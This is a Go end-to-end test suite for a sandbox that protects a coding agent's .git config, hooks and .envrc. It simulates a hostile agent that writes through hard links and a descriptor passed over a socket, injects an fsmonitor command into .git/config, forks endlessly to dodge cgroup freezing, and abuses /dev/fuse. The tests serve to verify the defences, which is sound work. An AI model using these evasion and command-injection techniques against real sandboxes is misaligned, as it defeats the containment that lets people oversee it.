	if _, err := os.Stat(filepath.Join(w.project, ".git", "hooks", "pre-commit")); err == nil {
		t.Errorf("a process that sat in .git/hooks from before it was protected wrote a hook there")
	}
	if b, _ := os.ReadFile(filepath.Join(w.project, ".git", "config")); strings.Contains(string(b), "fsmonitor") {
		t.Errorf("a process that held .git/config open from before it was protected wrote it: %q", b)
	}
	time.Sleep(time.Second)
	if b, _ := os.ReadFile(filepath.Join(w.project, ".envrc")); strings.Contains(string(b), "evil") {
		t.Errorf("a process in a mount namespace of its own wrote .envrc after it was protected: %q", b)
	}
}

// A read-only bind covers a path, not its inode. A hard link the agent made
// to a host-run file before it was first protected (a .git/config and a
// hook it wrote itself, linked from the project) is that file all the same,
// and so is a descriptor passed over a socket, which no process list shows.
// settle puts a copy on new inodes in the path's place before it binds it:
// what the agent kept reaches only the old ones.
func TestE2EHostileHardLink(t *testing.T) {
	w := newWorld(t)
	os.RemoveAll(filepath.Join(w.project, ".git"))
	w.must("up")
	// One holds .git/config open, its descriptor in flight in a socket
	// (sent, not yet received) while the next settle runs.
	os.WriteFile(filepath.Join(w.project, "held.py"), []byte(`import array, os, socket, time
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
fd = os.open("/workspace/app/.git/config", os.O_RDWR | os.O_APPEND)
a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
os.close(fd)
a.close()
while not os.path.exists("/tmp/go"):
    time.sleep(0.1)
msg, anc, flags, addr = b.recvmsg(1, socket.CMSG_LEN(4))
fds = array.array("i")
fds.frombytes(anc[0][2])
os.write(fds[0], b"\tfsmonitor = touch /tmp/pwned-fd\n")
open("/tmp/fd-tried", "w").close()
`), 0o644)
	if out, code := w.sh(`cd /workspace/app && mkdir -p .git/hooks && printf '[core]\n' >.git/config && printf '#!/bin/sh\n' >.git/hooks/post-checkout && chmod 755 .git/hooks/post-checkout && ln .git/config notes && ln .git/hooks/post-checkout todo && { setsid python3 held.py </dev/null >/tmp/held.log 2>&1 & } && sleep 1 && echo ok`); code != 0 || !strings.Contains(out, "ok") {
		t.Fatalf("make the links: %s", out)
	}
	// The next session: settle protects the new .git/config and hooks; the
	// agent writes through what it kept.
	out, _ := w.sh(`touch /tmp/go; printf '\tfsmonitor = touch /tmp/pwned\n' >>/workspace/app/notes; printf 'touch /tmp/pwned\n' >>/workspace/app/todo; for i in $(seq 1 30); do [ -e /tmp/fd-tried ] && break; sleep 0.1; done; cat /tmp/held.log; echo wrote`)
	if !strings.Contains(out, "wrote") {
		t.Fatalf("the session did not run: %s", out)
	}
	if _, code := w.guest("test", "-e", "/tmp/fd-tried"); code != 0 {
		t.Errorf("the descriptor in flight was never written through: %s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(w.project, ".git", "config")); string(b) != "[core]\n" {
		t.Errorf("the agent wrote .git/config through what it kept from before it was protected: %q", b)
	}
	hook := filepath.Join(w.project, ".git", "hooks", "post-checkout")
	if b, _ := os.ReadFile(hook); string(b) != "#!/bin/sh\n" {
		t.Errorf("the agent wrote a hook through a hard link from before it was protected: %q", b)
	}
	if st, err := os.Stat(hook); err != nil || st.Mode().Perm() != 0o755 {
		t.Errorf("the hook lost its mode in the copy: %v %v", st, err)
	}
	if b, _ := os.ReadFile(filepath.Join(w.project, "notes")); !strings.Contains(string(b), "fsmonitor") {
		t.Errorf("the agent's own link no longer holds what it wrote: %q", b)
	}
}

// A process of the user's that starts while settle has the user stopped
// (here one a root service starts as the user in the middle of settle's
// work, as cron or at would) runs while root resolves paths inside the
// project, where a folder swapped for a link chooses what root binds and
// a descriptor opened before a bind keeps writing: settle stops, nothing
// starts, and every process of the user's ends. The next session starts.
func TestE2EHostileStartsDuringSettle(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	// Decoy submodules make settle's work long enough to start something
	// in the middle of it.
	if out, code := w.sh("cd /workspace/app/.git && mkdir -p modules && cd modules && for i in $(seq 1 100); do mkdir -p d$i/hooks && echo x >d$i/config || exit 1; done && echo made"); code != 0 || !strings.Contains(out, "made") {
		t.Fatalf("the decoys could not be made: %s", out)
	}
	w.must("exec", "--", "true")
	w.detached("exec sleep 600")
	// Held: frozen in settle's cgroup (the guest has the cgroup v2
	// freezer), or stopped.
	watch := `s=$(pgrep -u 1000 -f "^sleep 600$") || exit 1; e="$(findmnt -rn -t cgroup2 -o TARGET | head -n 1)/vibe-user/cgroup.events"; while ! grep -q "^State:.*T" /proc/$s/status && ! { grep -q vibe-user /proc/$s/cgroup && grep -qx "frozen 1" "$e"; }; do :; done; sleep 0.2; setpriv --reuid=1000 --regid=1000 --clear-groups sleep 601 & echo $! >/run/intruder`
	if out, code := w.guest("sh", "-c", "setsid sh -c '"+watch+"' </dev/null >/dev/null 2>&1 & echo watching"); code != 0 || !strings.Contains(out, "watching") {
		t.Fatalf("start the watcher: %s", out)
	}
	stdout, stderr, code := w.vibe("exec", "--", "sh", "-c", "echo ran")
	if out, c := w.guest("cat", "/run/intruder"); c != 0 {
		t.Fatalf("the process meant to start during settle never started, so this proves nothing: %s (session: %d %s)", out, code, stderr)
	}
	w.refused(stdout, stderr, code, "while root protected the projects", "a session started although a process of the user's began while settle had the user stopped")
	// It may hold what root was protecting: it ends, and every other
	// process of the user's with it.
	if out, c := w.guest("pgrep", "-u", "1000"); c == 0 {
		t.Errorf("processes of the user's still run after a settle saw one start: %s", out)
	}
	w.nextSessionStarts()
}

// A session's processes are held while the next session's settle works:
// frozen in a cgroup of root's, where the guest has the cgroup v2 freezer
// (a container here, and a VM's own kernel). The agent that asks the kernel
// for SIGCONT whenever .git changes (the attack of provision's
// TestSettleEndsEveryoneWhenOneRan) is not woken by settle's copy of
// .git/config: it opens nothing, nobody has to end, and the session
// starts. (Stopped with SIGSTOP, it woke, settle saw it run, and every
// process of the user's ended.)
func TestE2EFreezerHoldsTheAgent(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	waker, err := os.ReadFile("../../provision/testdata/sigio-waker.py")
	if err != nil {
		t.Fatal(err)
	}
	start := "cd /workspace/app && mkdir -p .git && printf '[core]\\n' >.git/config && cat >/tmp/w.py <<'EOF'\n" + string(waker) + "EOF\n" +
		"setsid python3 /tmp/w.py y </dev/null >/tmp/y.log 2>&1 & sleep 0.3; setsid python3 /tmp/w.py x /workspace/app/.git </dev/null >/tmp/x.log 2>&1 & " +
		"for i in $(seq 1 50); do grep -q watching /tmp/x.log && break; sleep 0.1; done; cat /tmp/x.log"
	if out, code := w.sh(start); code != 0 || !strings.Contains(out, "watching") {
		t.Fatalf("start the agent's processes: %s", out)
	}
	// What it wrote before the file was protected (the host's own reads
	// of .git wake it too) it could: what counts is what it writes after.
	time.Sleep(time.Second)
	config, _ := w.guest("cat", "/workspace/app/.git/config")
	before, _ := w.guest("pgrep", "-u", "1000", "-f", "w.py")
	stdout, stderr, code := w.vibe("exec", "--", "sh", "-c", "echo ran")
	time.Sleep(time.Second)
	if code != 0 || !strings.Contains(stdout, "ran") || strings.Contains(stderr, "ended every process") {
		t.Errorf("the session did not start, or settle ended the user's processes: %d %q %q", code, stdout, stderr)
	}
	after, _ := w.guest("pgrep", "-u", "1000", "-f", "w.py")
	if len(lines(before)) != 2 || strings.Join(lines(before), " ") != strings.Join(lines(after), " ") {
		t.Errorf("the agent's processes did not go on (before: %q, after: %q)", before, after)
	}
	if out, _ := w.guest("sh", "-c", "cat /proc/$(pgrep -u 1000 -f 'w.py x' | head -n 1)/cgroup"); !strings.Contains(out, "/vibe-user") {
		t.Errorf("the agent's process is not in settle's cgroup: %q", out)
	}
	if out, _ := w.guest("cat", "/workspace/app/.git/config"); out != config {
		t.Errorf("the agent wrote the protected file: %q, was %q", out, config)
	}
	if out, _ := w.guest("findmnt", "-rn", "-o", "OPTIONS", "--mountpoint", "/workspace/app/.git/config"); !strings.HasPrefix(out, "ro") {
		t.Errorf(".git/config is not protected: %q", out)
	}
}

// A process of the user's that forks and exits without end, to change its
// pid, started outside every vibe session (here by a root service, as cron
// or a service of the image's would): no look at the pids catches it, so
// settle stops every process of the user's own id at one moment (kill -1),
// sees it outside its cgroup, ends every process of the user's and starts
// nothing. The next session starts. (Before, settle moved the pids it saw
// into its cgroup, the hopper's were always gone by then, and it ran on
// while root worked in the project: provision's
// TestSettleFreezerEndsAHopperBornOutside.)
func TestE2EHostileHopperOutside(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	w.detached("exec sleep 600")
	hopper := `import os, sys, time
n = 0
while True:
    n += 1
    with open("/tmp/hop.new", "w") as f:
        f.write(str(n))
    os.replace("/tmp/hop.new", "/tmp/hop")
    time.sleep(0.001)
    if os.fork() > 0:
        os._exit(0)
`
	start := "printf '%s' \"$1\" >/run/hopper.py && setsid setpriv --reuid=1000 --regid=1000 --clear-groups python3 /run/hopper.py </dev/null >/dev/null 2>&1 & for i in $(seq 1 50); do [ -s /tmp/hop ] && break; sleep 0.1; done; cat /tmp/hop"
	if out, code := w.guest("sh", "-c", start, "start", hopper); code != 0 || out == "" {
		t.Fatalf("start the hopper: %d %q", code, out)
	}
	stdout, stderr, code := w.vibe("exec", "--", "sh", "-c", "echo ran")
	w.refused(stdout, stderr, code, "outside vibe's cgroup", "a session started beside a process of the user's that settle cannot hold")
	a, _ := w.guest("cat", "/tmp/hop")
	time.Sleep(500 * time.Millisecond)
	b, _ := w.guest("cat", "/tmp/hop")
	if a != b {
		t.Errorf("the hopper runs on: %q -> %q", a, b)
	}
	if out, _ := w.guest("sh", "-c", "ps -u 1000 -o pid=,stat=,comm= | grep -v ' Z'"); strings.TrimSpace(out) != "" {
		t.Errorf("processes of the user's still run: %s", out)
	}
	w.nextSessionStarts()
}

// /dev/fuse is root's alone in a session: a FUSE server of the agent's
// that never answers would hold a process where nothing can stop or end
// it, and every later settle would fail. On a host whose /dev/fuse is open
// to all (Debian's is 0666) a container shows it so; here, where the
// host's is 0600, a node open to all stands in for it (bound over it by
// guest root), and settle closes it in the real container.
func TestE2EFuseIsRootsAlone(t *testing.T) {
	w := newWorld(t)
	w.must("up")
	if out, code := w.guest("sh", "-c", "mount --bind /dev/null /dev/fuse && setpriv --reuid=1000 --regid=1000 --init-groups sh -c 'test -w /dev/fuse && echo open'"); code != 0 || !strings.Contains(out, "open") {
		t.Fatalf("the stand-in for an open /dev/fuse could not be made: %d %s", code, out)
	}
	if out := w.must("exec", "--", "sh", "-c", "if test -w /dev/fuse; then echo open; else echo closed; fi"); !strings.Contains(out, "closed") {
		t.Errorf("the agent may open /dev/fuse: %q", out)
	}
}
